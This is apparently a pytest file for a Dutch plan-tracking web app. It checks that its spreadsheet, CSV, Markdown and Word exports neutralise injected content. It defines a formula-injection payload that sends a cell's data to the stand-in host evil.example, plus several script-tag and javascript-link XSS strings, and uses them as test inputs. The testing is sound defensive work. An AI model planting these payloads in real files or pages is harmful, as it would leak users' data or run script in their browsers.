"""Exports and documents the stuurgroep opens: no formulas, no markup, no 500 on a long title."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

from tests.accounts import sign_in
from tests.helpers import SMALL_PLAN, SMALL_PLAN_ID, import_text
from web.exports import FORMULA_STARTS

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B3,"Klik hier")'
PAYLOADS = ("<script>alert('md')</script>", '<img src=x onerror="alert(2)">',
            "[Klik hier](javascript:alert(3))", "<javascript:alert(4)>")


def _client(services, today: str = "2026-03-02"):
    from web import create_app

    client = create_app({"DATA_DIR": str(services.data_dir), "TODAY": today}).test_client()
    sign_in(client, services, "stuurgroep")
    return client


def _dangerous_board(services) -> None:
    import_text(services, SMALL_PLAN, "testagenda.yaml", datetime(2025, 10, 1, 9))
    app = services.app
    app.assign_trekker(SMALL_PLAN_ID, "1.A1", name="+31 Piet", email="piet@teststad.nl",
                       at=datetime(2025, 10, 2, 9), by="beheer")
    app.plan_milestone(SMALL_PLAN_ID, "1.A1", label=HYPERLINK, due="maart 2026",
                       at=datetime(2025, 10, 3, 9), by="beheer")
    app.plan_milestone(SMALL_PLAN_ID, "1.A2", label="@SUM(1+1)", due="januari 2026",
                       at=datetime(2025, 10, 3, 9), by="beheer")
    app.plan_milestone(SMALL_PLAN_ID, "2.1", label="-2+3", due="februari 2026",
                       at=datetime(2025, 10, 3, 9), by="beheer")
    services.catch_up()


def test_the_xlsx_export_has_no_formula_cell_and_every_text_cell_is_inert(services) -> None:
    from openpyxl import load_workbook

    _dangerous_board(services)
    answer = _client(services).get(f"/plannen/{SMALL_PLAN_ID}/export.xlsx")
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    # Kept in its own words, as a text cell with Excel's quote prefix: text also once edited.
    for text in (HYPERLINK, "+31 Piet"):
        assert texts[text].data_type == "s" and texts[text].quotePrefix
    assert any(t.startswith("@SUM(1+1)") for t in texts)
    assert all(c.data_type == "s" and c.quotePrefix for t, c in texts.items() if t.startswith(FORMULA_STARTS))
    assert not texts["Code"].quotePrefix


def test_the_csv_export_has_no_cell_that_starts_a_formula(services) -> None:
    _dangerous_board(services)
    answer = _client(services).get(f"/plannen/{SMALL_PLAN_ID}/export.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and "'+31 Piet" in cells
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_the_markdown_report_renders_user_html_and_links_as_text(services) -> None:
    from markdown_it import MarkdownIt

    import_text(services, SMALL_PLAN, "testagenda.yaml", datetime(2025, 10, 1, 9))
    services.app.set_stoplicht(SMALL_PLAN_ID, "1.A1", colour="rood", oorzaak=" ".join(PAYLOADS),
                               gevolg="**vet** _schuin_", bijsturing="# geen kop\n- geen lijst",
                               at=datetime(2026, 3, 1, 9), by="beheer")
    services.catch_up()
    answer = _client(services, "2026-07-15").get(f"/plannen/{SMALL_PLAN_ID}/rapportages/concept.md?periode=2026-H1")
    assert answer.status_code == 200, answer.data[:300]
    text = answer.get_data(as_text=True)
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "alert('md')" in html                           # the text is there ...
    for tag in ("<script", "<img", 'href="javascript:', "<strong>vet", "<em>schuin", "<h1>geen kop"):
        assert tag not in html, tag                        # ... but never as markup
    assert "&lt;script&gt;" in html


def test_a_plan_title_over_255_characters_makes_a_word_report(services) -> None:
    import docx

    long_title = "Uitvoeringsagenda " + "met een zeer lange titel " * 14
    assert len(long_title) > 300
    import_text(services, SMALL_PLAN.replace("title: Testagenda Jeugd en Wmo", f"title: {long_title}"),
                "testagenda.yaml", datetime(2025, 10, 1, 9))
    answer = _client(services, "2026-07-15").get(
        f"/plannen/{SMALL_PLAN_ID}/rapportages/concept.docx?periode=2026-H1")
    assert answer.status_code == 200, answer.data[:300]
    title = docx.Document(io.BytesIO(answer.data)).core_properties.title
    assert 200 < len(title) <= 255 and title.endswith("…")


def test_the_csv_neutraliser_keeps_numbers_and_harmless_text() -> None:
    from web.exports import neutralised

    assert neutralised(12) == 12 and neutralised(-3) == -3
    assert neutralised("Q4 2025") == "Q4 2025"
    assert [neutralised(s) for s in ("=1", "+1", "-1", "@x", "\tx", "\rx")] == \
        ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx"]
    assert neutralised(date(2026, 1, 1)) == date(2026, 1, 1)


def _dangerous_plan_milestones(services) -> None:
    from pathlib import Path

    text = (Path(__file__).parent / "data" / "plan-milestones.yaml").read_text(encoding="utf-8")
    text = text.replace("label: Programmabegroting vastgesteld", "label: '@SUM(1+1)'")
    import_text(services, text, "plan-milestones.yaml", datetime(2026, 1, 10, 9))
    services.app.reschedule_plan_milestone("programma-lindeveld", "actualisatie", due="Q1 2027",
                                           reason=HYPERLINK, at=datetime(2026, 2, 1, 9), by="beheer")
    services.catch_up()


def test_the_plans_own_milestones_in_the_exports_are_inert_too(services) -> None:
    from openpyxl import load_workbook

    _dangerous_plan_milestones(services)
    client = _client(services)
    sheet = load_workbook(io.BytesIO(client.get("/plannen/programma-lindeveld/export.xlsx").data))["Mijlpalen"]
    cells = [cell for row in sheet.iter_rows(min_row=5) for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    own = [[c.value for c in row] for row in sheet.iter_rows(min_row=5) if row[0].value == "plan"]
    assert "@SUM(1+1)" in [r[2] for r in own] and HYPERLINK in [r[-1] for r in own]
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS))
    answer = client.get("/plannen/programma-lindeveld/export-mijlpalen.csv")
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'@SUM(1+1)" in cells and "'" + HYPERLINK in cells
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_a_text_with_a_control_character_is_refused_and_nothing_is_recorded(services) -> None:
    import pytest

    from tests.helpers import event_count
    from tracker.errors import DomainError

    import_text(services, SMALL_PLAN, "testagenda.yaml", datetime(2025, 10, 1, 9))
    before = event_count(services)
    with pytest.raises(DomainError, match="De tekst bevat een stuurteken"):
        services.app.add_note(SMALL_PLAN_ID, "1.A1", text="Eerste\x0bgesprek", at=datetime(2026, 3, 1, 9),
                              by="beheer")
    with pytest.raises(DomainError, match="De omschrijving bevat een stuurteken"):
        services.app.plan_milestone(SMALL_PLAN_ID, "1.A1", label="Start\x08 pilot", due="maart 2026",
                                    at=datetime(2025, 10, 3, 9), by="beheer")
    services.app.add_note(SMALL_PLAN_ID, "1.A1", text="Regel één\n\tregel twee", at=datetime(2026, 3, 1, 9),
                          by="beheer")  # a line break and a tab are text
    assert event_count(services) == before + 1


def test_a_control_character_in_a_recorded_text_breaks_no_excel_or_word_file(services, monkeypatch) -> None:
    import docx
    from openpyxl import load_workbook

    import_text(services, SMALL_PLAN, "testagenda.yaml", datetime(2025, 10, 1, 9))
    app = services.app
    # Recorded before texts were checked, pasted from elsewhere: a backspace in a label, a vertical
    # tab in a note (XML holds neither).
    with monkeypatch.context() as unchecked:
        unchecked.setattr("tracker.actors.check_lengths", lambda fields: None)
        app.plan_milestone(SMALL_PLAN_ID, "1.A1", label="Start\x08 pilot", due="maart 2026",
                           at=datetime(2025, 10, 3, 9), by="beheer")
        app.add_note(SMALL_PLAN_ID, "1.A1", text="Eerste\x0bgesprek gevoerd", at=datetime(2026, 3, 1, 9),
                     by="beheer")
    services.catch_up()
    client = _client(services, "2026-07-15")
    assert client.get(f"/plannen/{SMALL_PLAN_ID}/export.xlsx?groep=%E2%80%AE%00").status_code == 200
    answer = client.get(f"/plannen/{SMALL_PLAN_ID}/export.xlsx")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.data))
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Start pilot" in texts
    report = client.get(f"/plannen/{SMALL_PLAN_ID}/rapportages/concept.docx?periode=2026-H1")
    assert report.status_code == 200
    words = "\n".join(p.text for p in docx.Document(io.BytesIO(report.data)).paragraphs)
    assert "Eerstegesprek gevoerd" in words
